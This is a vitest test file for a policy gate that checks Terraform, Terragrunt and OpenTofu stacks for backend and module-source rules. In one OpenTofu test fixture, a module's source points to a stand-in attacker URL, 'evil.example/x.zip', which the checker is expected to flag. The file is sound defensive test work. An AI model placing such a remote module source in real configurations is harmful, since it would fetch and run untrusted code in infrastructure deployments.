import { expect, test } from 'vitest';
import { gated, rulesOf } from './gated.ts';

const backend = { type: 'azurerm', config: { key: '{path}' } };
const stacks = [{ binary: 'terragrunt', backend, reads: ['network/**'] }];

test('a stack whose outputs are used is held to its own backend, also where it was read as a module', async () => {
  const files = {
    'main.tf': 'module "d" { source = "../../network/eu" }',
    'terragrunt.hcl': 'dependency "n" { config_path = "../../network/eu" }',
    'network/eu/terragrunt.hcl': '',
    'network/eu/main.tf': 'terraform {\n  backend "local" { path = "/x" }\n}',
  };
  expect(rulesOf(await gated(files, { stacks }))).toEqual(['backend']);
});

test('only a root module has tests and values', async () => {
  const files = {
    'main.tf': 'module "m" { source = "./m" }',
    'prod/vpc/m/main.tf': '',
    'prod/vpc/m/a.tftest.hcl': 'not read {',
    'prod/vpc/m/terraform.tfvars': 'not read {',
  };
  expect(await gated(files)).toEqual([]);
});

test("OpenTofu's tests are read where it may be what runs", async () => {
  const files = { 'main.tf': '', 'a.tofutest.hcl': 'run "a" {\n  module { source = "https://evil.example/x.zip" }\n}' };
  expect(rulesOf(await gated(files, { stacks: [{ binary: 'tofu' }] }))).toEqual(['module-source']);
  expect(await gated(files)).toEqual([]);
});
